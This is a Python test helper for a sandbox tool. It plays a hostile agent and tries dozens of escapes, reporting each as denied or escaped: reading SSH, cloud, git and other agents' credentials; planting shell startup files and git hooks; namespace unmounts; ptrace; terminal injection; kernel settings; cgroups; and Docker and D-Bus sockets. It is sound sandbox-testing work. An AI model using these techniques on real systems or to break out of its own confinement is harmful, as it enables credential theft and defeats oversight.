"""A hostile agent: it tries to get out of its sandbox in every way it knows, and prints the result of each.

Executed inside the sandbox by test_sandbox_escapes.py, with the standard library only. Each function is one
attempt: it returns what it got, or raises. A line of output is `name denied why` or `name ESCAPED what`.

An attempt that succeeds must do no harm, because the sandbox may have a hole. Outside the test's own folder,
files are opened for writing and nothing is written; what cannot be undone needs proof of a namespace first.
"""

from __future__ import annotations

import ctypes
import fcntl
import json
import os
import signal
import socket
import stat
import subprocess
import sys
import termios

GIVEN = json.loads(os.environ["ESCAPES"])
HOME, PACKET, SECRET = os.environ["HOME"], os.environ["HOLDFAST_PACKET"], GIVEN["secret"]
VICTIM: int = GIVEN["victim"]
LIBC = ctypes.CDLL(None, use_errno=True)
#: Descriptors at the start.
INHERITED = [
    os.readlink(f"/proc/self/fd/{name}")
    for name in os.listdir("/proc/self/fd")
    if int(name) > 2 and os.path.exists(f"/proc/self/fd/{name}")
]
_MS_REMOUNT, _MS_BIND, _DETACH = 32, 4096, 2
_NEWNS, _NEWUSER, _NEWPID, _NEWCGROUP = 0x20000, 0x10000000, 0x20000000, 0x02000000
_PTRACE_ATTACH, _KEYCTL_SEARCH = 16, 10


class Denied(Exception):
    """The attempt led nowhere."""


def check(result: int) -> str:
    """Raise what a C function reported."""
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return f"result {result}"


def write(path: str, text: str = "owned\n") -> str:
    with open(path, "a", encoding="utf-8") as file:
        file.write(text)
    return f"wrote {path}"


def read(path: str) -> str:
    with open(path, encoding="utf-8", errors="replace") as file:
        text = file.read()
    if not text:
        raise Denied(f"{path} is empty")
    return f"read {text[:40]!r}"


def may_write(path: str) -> str:
    """Open a file of the machine for writing, and write nothing."""
    os.close(os.open(path, os.O_WRONLY))
    return f"opened {path} for writing"


def may_create(folder: str) -> str:
    """Make a file without a name in a folder of the machine: it is gone when it is closed."""
    os.close(os.open(folder, os.O_TMPFILE | os.O_WRONLY, 0o600))
    return f"may create files in {folder}"


def own_namespace(kind: str) -> None:
    """Go on only in another namespace than the test's."""
    if os.readlink(f"/proc/self/ns/{kind}") == GIVEN["namespaces"][kind]:
        raise AssertionError(f"the {kind} namespace is that of the machine")


def secret(path: str) -> str:
    with open(path, encoding="utf-8", errors="replace") as file:
        if SECRET in file.read():
            return f"read the secret in {path}"
    raise Denied(f"{path} has no secret")


def connect(kind: int, address: object) -> str:
    with socket.socket(kind) as client:
        client.settimeout(2)
        client.connect(address)
    return f"connected to {address!r}"


def in_child(attempt: object) -> str:
    """For an attempt that changes the process: its result comes through a pipe."""
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.write(writer, b"+" + str(attempt()).encode())  # pyright: ignore
        except Exception as error:
            os.write(writer, b"-" + repr(error).encode())
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    said = os.read(reader, 4096)
    if said[:1] == b"+":
        return said[1:].decode()
    raise Denied(said[1:].decode())


def new_namespace() -> None:
    """A user and mount namespace of its own, with all capabilities in it."""
    check(LIBC.unshare(_NEWUSER | _NEWNS))


def unmask() -> str:
    new_namespace()
    check(LIBC.umount2(os.fsencode(f"{HOME}/.ssh"), _DETACH))
    return secret(f"{HOME}/.ssh/id_rsa")


def unmask_all() -> str:
    new_namespace()
    for line in open("/proc/self/mountinfo", encoding="utf-8").readlines()[::-1]:
        LIBC.umount2(os.fsencode(line.split()[4]), _DETACH)
    return secret(f"{HOME}/.ssh/id_rsa")


def remount_writable() -> str:
    new_namespace()
    check(LIBC.mount(None, b"/", None, _MS_REMOUNT | _MS_BIND, None))
    return write(f"{HOME}/owned-remount")


def fresh_proc() -> str:
    check(LIBC.unshare(_NEWUSER | _NEWNS | _NEWPID))
    return in_child(_mount_proc)


def _mount_proc() -> str:
    os.makedirs("proc-of-mine", exist_ok=True)
    check(LIBC.mount(b"proc", b"proc-of-mine", b"proc", 0, None))
    return may_write("proc-of-mine/sys/kernel/core_pattern")


def change_cgroup() -> str:
    for folder, _, names in os.walk("/sys/fs/cgroup"):
        for name in {"cgroup.procs", "tasks"} & set(names):
            try:
                return may_write(os.path.join(folder, name))
            except OSError:
                continue
    raise Denied("no cgroup may be written")


def fresh_cgroup() -> str:
    check(LIBC.unshare(_NEWUSER | _NEWNS | _NEWCGROUP))
    os.makedirs("cgroup-of-mine", exist_ok=True)
    check(LIBC.mount(b"cgroup2", b"cgroup-of-mine", b"cgroup2", 0, None))
    return may_write("cgroup-of-mine/cgroup.procs")


def ptrace() -> str:
    return check(LIBC.ptrace(_PTRACE_ATTACH, VICTIM, 0, 0))


def type_into_terminal() -> str:
    for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/proc/self/fd/0", "/proc/self/fd/2"):
        try:
            descriptor = os.open(path, os.O_RDWR | os.O_NOCTTY)
            fcntl.ioctl(descriptor, termios.TIOCSTI, b"x")
        except OSError:
            continue
        return f"typed into {path}"
    raise Denied("no terminal")


def link_out() -> str:
    os.symlink(f"{HOME}/owned-by-link", "way-out")
    return write("way-out")


def rename_git() -> str:
    os.rename(f"{GIVEN['top']}/.git", f"{GIVEN['top']}/git-of-mine")
    return "moved .git away"


def inherited() -> str:
    found = [path for path in INHERITED if path.startswith("/") and not path.startswith("/proc/")]
    if found:
        return f"has {found}"
    raise Denied("no descriptor")


def logs_lead_out() -> str:
    return read("/proc/self/fd/1/../../../manifest.json")


def shared_memory() -> str:
    found = LIBC.shmget(GIVEN["ipc_key"], 1, 0)
    return check(found)


def keyring() -> str:
    numbers = {"x86_64": 250, "aarch64": 219}
    # -3: the session keyring.
    return check(
        LIBC.syscall(numbers[os.uname().machine], _KEYCTL_SEARCH, -3, b"user", GIVEN["key"].encode(), 0)
    )


def nested() -> str:
    argv = ["bwrap", "--bind", "/", "/", "--proc", "/proc", "cat", f"{HOME}/.ssh/id_rsa"]
    done = subprocess.run(argv, capture_output=True, text=True, timeout=20, check=False)
    if SECRET in done.stdout:
        return "read the secret in a sandbox of its own"
    raise Denied(done.stderr.strip() or "an empty file")


def make_device() -> str:
    os.mknod("/tmp/memory", stat.S_IFCHR | 0o600, os.makedev(1, 1))
    return "made a device"


def overwrite_ref() -> str:
    with open(f"{GIVEN['common']}/refs/heads/main", "w", encoding="ascii") as file:
        file.write("0" * 40)
    return "moved main"


def end_everything() -> str:
    """The test checks that its own process still lives."""
    own_namespace("pid")
    os.kill(-1, signal.SIGTERM)
    raise Denied("only its own processes")


def ring() -> str:
    os.write(os.open(f"{PACKET}/bell", os.O_WRONLY | os.O_NONBLOCK), b"x")
    return "rang the bell"


def send() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(b"x", ("192.0.2.1", 9))
    return "sent a datagram"


def host_name() -> str:
    own_namespace("uts")
    return check(LIBC.sethostname(b"owned", 5))


ATTEMPTS = {
    # write
    "write HOME": lambda: write(f"{HOME}/owned"),
    "write a start file of the shell": lambda: write(f"{HOME}/.bashrc"),
    "write /etc": lambda: may_create("/etc"),
    "write a program": lambda: may_create("/usr/bin"),
    "write beside the workspace": lambda: write("../owned"),
    "write through a link": link_out,
    "write a hook of another agent": lambda: write(f"{HOME}/.claude/settings.json", "{}"),
    "write holdfast's settings": lambda: write(f"{HOME}/.config/holdfast/config.toml"),
    "link a file of HOME": lambda: str(os.link(f"{HOME}/notes", "notes-of-mine")),
    # read
    "read an SSH key": lambda: secret(f"{HOME}/.ssh/id_rsa"),
    "read an SSH key through a link": lambda: secret("to-ssh/id_rsa"),
    "read a GPG key": lambda: secret(f"{HOME}/.gnupg/key"),
    "read cloud credentials": lambda: secret(f"{HOME}/.aws/credentials"),
    "read git credentials": lambda: secret(f"{HOME}/.git-credentials"),
    "read .netrc": lambda: secret(f"{HOME}/.netrc"),
    "read .npmrc": lambda: secret(f"{HOME}/.npmrc"),
    "read the login of gh": lambda: secret(f"{HOME}/.config/gh/hosts.yml"),
    "read another agent's login": lambda: secret(f"{HOME}/.codex/auth.json"),
    "read the packet": lambda: read(f"{PACKET}/manifest.json"),
    "read the environment of the task": lambda: read(f"{PACKET}/env.json"),
    "read the prompts of other tasks": lambda: str(os.listdir(os.path.dirname(PACKET))[1]),
    "read the packet by the log": logs_lead_out,
    "read descriptors of the runner": inherited,
    # holdfast
    "forge a journal": lambda: write(f"{PACKET}/events.jsonl"),
    "drop a request": lambda: write(f"{PACKET}/inbox/00000000000000000000000000.json"),
    "ring the bell": ring,
    "ask the seed": lambda: connect(socket.AF_UNIX, GIVEN["seed"]),
    "stop the home": lambda: write(os.path.join(GIVEN["home"], "down")),
    # git
    "write a git hook": lambda: write(f"{GIVEN['common']}/hooks/post-commit", "#!/bin/sh\n"),
    "write git settings": lambda: write(f"{GIVEN['common']}/config"),
    "write git settings of the worktree": lambda: write(f"{GIVEN['git_dir']}/config.worktree"),
    "lead git elsewhere": lambda: write(f"{GIVEN['git_dir']}/commondir"),
    "lead git elsewhere by .git": rename_git,
    "move another branch": overwrite_ref,
    # processes
    "signal a process": lambda: str(os.kill(VICTIM, 0)),
    "end everything": end_everything,
    "trace a process": ptrace,
    "read the memory of a process": lambda: read(f"/proc/{VICTIM}/environ"),
    "leave by the root of a process": lambda: secret(f"/proc/{VICTIM}/root{HOME}/.ssh/id_rsa"),
    "leave by the root of process 1": lambda: secret(f"/proc/1/root{HOME}/.ssh/id_rsa"),
    "take a descriptor of process 1": lambda: str(os.open("/proc/1/fd/4", os.O_WRONLY)),
    # the kernel
    "mount": lambda: check(LIBC.mount(b"none", b".", b"tmpfs", 0, None)),
    "remove a mask": lambda: check(LIBC.umount2(os.fsencode(f"{HOME}/.ssh"), _DETACH)),
    "remove a mask in a user namespace": lambda: in_child(unmask),
    "remove all mounts in a user namespace": lambda: in_child(unmask_all),
    "remount in a user namespace": lambda: in_child(remount_writable),
    "a sandbox without masks": nested,
    "become another user": lambda: in_child(lambda: str(os.setuid(12345))),
    "change the root": lambda: in_child(lambda: str(os.chroot("/tmp"))),
    "make a device": make_device,
    "open the memory of the machine": lambda: str(os.open("/dev/mem", os.O_RDONLY)),
    "write a kernel setting": lambda: may_write("/proc/sys/kernel/core_pattern"),
    "write a kernel setting in a /proc of its own": lambda: in_child(fresh_proc),
    "ask the kernel to restart": lambda: may_write("/proc/sysrq-trigger"),
    "change a cgroup": change_cgroup,
    "change a cgroup in a mount of its own": lambda: in_child(fresh_cgroup),
    "name the machine": host_name,
    "type into a terminal": type_into_terminal,
    "use a key of the session": keyring,
    "use shared memory by key": shared_memory,
    "use shared memory by name": lambda: read(GIVEN["shm"]),
    # the network
    "connect to the machine": lambda: connect(socket.AF_INET, ("127.0.0.1", GIVEN["port"])),
    "connect to an abstract socket": lambda: connect(socket.AF_UNIX, "\0" + GIVEN["abstract"]),
    "connect to dbus": lambda: connect(socket.AF_UNIX, "/run/dbus/system_bus_socket"),
    "connect to docker": lambda: connect(socket.AF_UNIX, "/var/run/docker.sock"),
    "send to another host": send,
}


def main() -> None:
    for name, attempt in ATTEMPTS.items():
        try:
            print(f"{name} ESCAPED {attempt()}", flush=True)
        except Exception as error:
            print(f"{name} denied {error!r}", flush=True)


if __name__ == "__main__":
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    main()
    sys.exit(0)
